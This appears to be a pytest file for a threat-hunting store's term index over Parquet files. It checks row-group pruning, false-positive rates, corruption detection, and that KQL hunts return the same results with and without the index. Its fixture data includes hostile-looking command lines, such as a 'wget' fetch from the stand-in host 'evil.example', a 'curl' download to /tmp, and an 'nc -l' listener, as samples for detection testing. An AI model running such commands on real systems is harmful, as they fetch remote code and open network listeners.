"""The term index rules out row groups, and never a row that a hunt would find."""

from __future__ import annotations

import json
from collections.abc import Iterator, Sequence
from pathlib import Path

import duckdb
import pyarrow as pa
import pyarrow.parquet
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from driftline.kql.rewrite import All, Bounds, Either, Term
from driftline.store.query.file_pruning import DataFile
from driftline.store.query.hunt_store import Hunt, explain, hunt
from driftline.store.query.views import TableSource
from driftline.store.schema import create_statement
from driftline.store.term_index.index import TermIndex, terms_path, write_index

TABLE = "CloudProcessEvents"
LINES = ["curl -o /tmp/x", "sh -c 'wget evil.example'", "sleep 1", "CURL.exe"]


def indexed(path: Path, texts: Sequence[str], group: int = 1) -> TermIndex:
    pyarrow.parquet.write_table(pa.table({"line": texts}), path, row_group_size=group)
    write_index(path)
    index = TermIndex.open(path)
    assert index
    return index


def test_matching_rows_are_whole_row_groups(tmp_path: Path) -> None:
    index = indexed(tmp_path / "x.parquet", LINES, group=2)

    assert index.matching_rows(Term("line", "wget")) == [(0, 1)]
    assert index.matching_rows(Term("line", "sleep")) == [(2, 3)]
    assert index.matching_rows(Term("line", "curl")) == [(0, 3)]
    assert index.matching_rows(Term("line", "cur")) == []


def test_matching_row_groups_apart_from_each_other_are_separate_ranges(tmp_path: Path) -> None:
    index = indexed(tmp_path / "x.parquet", LINES)

    assert index.matching_rows(Term("line", "curl")) == [(0, 0), (3, 3)]


def test_needs_combine_with_and_and_or(tmp_path: Path) -> None:
    index = indexed(tmp_path / "x.parquet", LINES)
    curl, tmp, sleep = Term("line", "curl"), Term("line", "tmp"), Term("line", "sleep")

    assert index.matching_rows(All((curl, tmp))) == [(0, 0)]
    assert index.matching_rows(Either((tmp, sleep))) == [(0, 0), (2, 2)]
    assert index.matching_rows(All()) == [(0, 3)]


def test_a_column_without_filters_rules_out_no_row(tmp_path: Path) -> None:
    assert indexed(tmp_path / "x.parquet", LINES).matching_rows(Term("other", "curl")) == [(0, 3)]


def test_false_positives_of_the_filter_are_about_one_percent(tmp_path: Path) -> None:
    index = indexed(tmp_path / "x.parquet", [" ".join(f"w{n}" for n in range(20_000))])

    wrong = sum(bool(index.matching_rows(Term("line", f"x{n}"))) for n in range(2_000))
    assert 0 < wrong < 40


def test_a_missing_or_unreadable_index_opens_as_none(tmp_path: Path) -> None:
    path = tmp_path / "x.parquet"
    assert TermIndex.open(path) is None
    terms_path(path).write_bytes(b"ARROW1 no more")
    assert TermIndex.open(path) is None


def test_a_flipped_bit_makes_the_index_not_intact(tmp_path: Path) -> None:
    path = tmp_path / "x.parquet"
    assert indexed(path, LINES).is_intact()
    data = bytearray(terms_path(path).read_bytes())
    index = pa.ipc.open_file(bytes(data)).read_all()
    kept = index.column("line").chunk(0)[0].as_buffer().to_pybytes()
    at = data.find(kept)
    data[at] ^= 1
    terms_path(path).write_bytes(data)

    damaged = TermIndex.open(path)
    assert damaged and not damaged.is_intact()


# The same hunt with an index and without

WORDS = ["curl", "Wget", "a", "b7", "1e5", "k", "s", "\u212a", "\u017f", "\u0130", "\u0131", "é", "日本", "e", "10"]
GLUE = [" ", "/", "-", "", "_", "\n", '"', "\\", "\t", "'"]
texts = st.lists(st.tuples(st.sampled_from(WORDS), st.sampled_from(GLUE)), max_size=5).map(
    lambda parts: "".join(word + glue for word, glue in parts)
)
values = st.one_of(texts, st.integers(-5, 1_000), st.floats(allow_nan=False, allow_infinity=False), st.none())
documents = st.fixed_dictionaries(
    {"p": values, "q": st.lists(values, max_size=2), "r": st.fixed_dictionaries({"s": values})}
)
COLUMNS = [
    "ProcessCommandLine",
    "AdditionalFields",
    "AdditionalFields.p",
    "AdditionalFields.r.s",
    "AdditionalFields.q[0]",
]
COLUMNS += ["tolower(ProcessCommandLine)", "toupper(ProcessCommandLine)", "tostring(AdditionalFields.q)"]
OPERATORS = [
    "has",
    "has_cs",
    "hasprefix",
    "hassuffix",
    "contains",
    "contains_cs",
    "startswith",
    "endswith",
    "==",
    "=~",
    "!has",
]
conditions = st.tuples(st.sampled_from(COLUMNS), st.sampled_from(OPERATORS), texts).map(
    lambda it: f"{it[0]} {it[1]} {literal(it[2])}"
)
MEMBERSHIP = ["has_any", "has_all", "in", "in~", "!in"]
lists = st.tuples(st.sampled_from(COLUMNS), st.sampled_from(MEMBERSHIP), st.lists(texts, min_size=1, max_size=3)).map(
    lambda it: f"{it[0]} {it[1]} ({', '.join(map(literal, it[2]))})"
)
predicates = st.recursive(
    st.one_of(conditions, lists),
    lambda inner: st.tuples(inner, st.sampled_from([" and ", " or "]), inner).map(lambda it: f"({''.join(it)})"),
    max_leaves=3,
)


def literal(text: str) -> str:
    escapes = {'"': '\\"', "\\": "\\\\", "\n": "\\n", "\t": "\\t"}
    return '"' + "".join(escapes.get(letter, letter) for letter in text) + '"'


# JSON as other programs write it: with escapes where none are needed.
def document(value: object, *, plain: bool) -> str:
    text = json.dumps(value, ensure_ascii=not plain)
    return text if plain else text.replace("curl", "c\\u0075rl").replace("/", "\\/")


@pytest.fixture(scope="module")
def connection() -> Iterator[duckdb.DuckDBPyConnection]:
    with duckdb.connect(config={"threads": 1}) as opened:
        opened.execute("SET TimeZone = 'UTC'")
        opened.execute(create_statement(TABLE))
        yield opened


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(rows=st.lists(st.tuples(texts, documents, st.booleans()), min_size=1, max_size=4), predicate=predicates)
def test_a_hunt_gives_the_same_rows_with_an_index_and_without(
    connection: duckdb.DuckDBPyConnection, tmp_path: Path, rows: list[tuple[str, object, bool]], predicate: str
) -> None:
    path = tmp_path / "x.parquet"
    stored = [(line, document(more, plain=plain)) for line, more, plain in rows]
    batch = pa.table(
        {"ProcessCommandLine": [line for line, _ in stored], "AdditionalFields": [more for _, more in stored]}
    )
    connection.register("batch", batch)
    shown = "* REPLACE (CAST(AdditionalFields AS JSON) AS AdditionalFields)"
    select = f"SELECT * FROM {TABLE} UNION ALL BY NAME SELECT {shown} FROM batch"
    connection.execute(f"COPY ({select}) TO '{path}' (FORMAT parquet)")
    terms_path(path).unlink(missing_ok=True)
    tables = {TABLE: TableSource(f"memory.main.{TABLE}", [DataFile(path, Bounds())])}
    request = Hunt(text=f"{TABLE} | where {predicate} | count")

    plainly = hunt(connection.cursor(), tables, request)
    write_index(path)
    assert hunt(connection.cursor(), tables, request) == plainly, (stored, predicate)


def test_a_hunt_reads_only_row_groups_that_may_have_its_term(
    connection: duckdb.DuckDBPyConnection, tmp_path: Path
) -> None:
    path = tmp_path / "many.parquet"
    line = "CASE WHEN i = 5000 THEN 'nc -l' ELSE 'sleep ' || i END AS ProcessCommandLine"
    rows = f"SELECT * FROM {TABLE} UNION ALL BY NAME SELECT {line} FROM range(10000) t(i)"
    connection.execute(f"COPY ({rows}) TO '{path}' (FORMAT parquet, ROW_GROUP_SIZE 2048)")
    write_index(path)
    tables = {TABLE: TableSource(f"memory.main.{TABLE}", [DataFile(path, Bounds())])}

    def told(predicate: str) -> tuple[int, int, int]:
        request = Hunt(text=f"{TABLE} | where {predicate} | project ProcessCommandLine")
        (reading,) = explain(connection.cursor(), tables, request).readings
        return hunt(connection.cursor(), tables, request).num_rows, reading.files, reading.partly

    assert told('ProcessCommandLine has "nc"') == (1, 1, 1)
    assert told('ProcessCommandLine has_any ("nc", "sleep")') == (10_000, 1, 0)
    assert told('ProcessCommandLine has "ncat-1"') == (0, 0, 0)
    assert told('ProcessCommandLine !has "nc"') == (9_999, 1, 0)
    view = f"{TABLE} | extend Line = tolower(ProcessCommandLine) | where Line has 'nc'"
    assert explain(connection.cursor(), tables, Hunt(text=view)).readings[0].partly == 1
